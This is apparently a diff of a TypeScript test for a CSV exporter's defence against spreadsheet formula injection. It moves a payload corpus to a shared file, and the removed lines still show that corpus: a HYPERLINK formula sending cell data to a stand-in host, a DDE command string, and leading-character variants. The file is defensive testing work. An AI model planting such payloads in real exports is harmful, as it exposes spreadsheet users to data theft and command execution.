@@ -1,59 +1,8 @@
 import { PGlite } from '@electric-sql/pglite'
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
+import { cells as corpus, readRfc4180 as parse } from '../../../../../tests/trust/csv-cells.ts'
 import { CSV_BOM, csvCell, csvLine, readCsvCell } from './csv.ts'
-
-const leads = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '\r\n=', "'=", "''+"]
-const fronts = ['', ' ', '\u3000', "'", '\u00a0 ']
-const formulas = [
-  `HYPERLINK("http://evil.example?x="&A1,"点我")`,
-  `cmd|' /C calc'!A0`,
-  'SUM(1,2)',
-  '1',
-  '',
-]
-const harmless = [
-  '李桂芳',
-  "'",
-  "''",
-  "O'Brien",
-  "'quoted'",
-  'a=b',
-  'a"b',
-  'a,b',
-  'a\r\nb',
-  'a;b',
-  ' ',
-  '',
-  '0086',
-  '10.50',
-  '"',
-  '""',
-  '\u202e=1',
-]
-/** What may be in a customer's name or a note, and what attackers put there. */
-const corpus = [
-  ...leads.flatMap((lead) =>
-    fronts.flatMap((front) => formulas.map((formula) => `${front}${lead}${formula}`)),
-  ),
-  ...harmless,
-].slice(0, 400)
-
-/** RFC 4180 to the letter: a quote opens a cell only at its start, and two make one inside. */
-function parse(file: string): string[][] {
-  const lines: string[][] = []
-  let cells: string[] = []
-  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
-  while (cell.lastIndex < file.length) {
-    const found = cell.exec(file)
-    if (!found) throw new Error('not RFC 4180')
-    cells.push(found[1]?.replaceAll('""', '"') ?? found[2]!)
-    if (found[3] === ',') continue
-    lines.push(cells)
-    cells = []
-  }
-  return lines
-}
 
 /** The second cell of each line, as a reader reads it that we did not write. */
 async function readByPostgres(file: string): Promise<string[]> {
@@ -76,7 +25,6 @@ describe('an export', () => {
     expect(cells).toEqual(parse(file.slice(CSV_BOM.length)).map(([, cell]) => cell))
     const live = cells.filter((cell) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell))
     const back = cells.map(readCsvCell).filter((cell, at) => cell === corpus[at])
-    console.info(`${corpus.length} payloads: ${live.length} formulas, ${back.length} back as sent`)
     expect(live).toEqual([])
     expect(back).toHaveLength(corpus.length)
   })
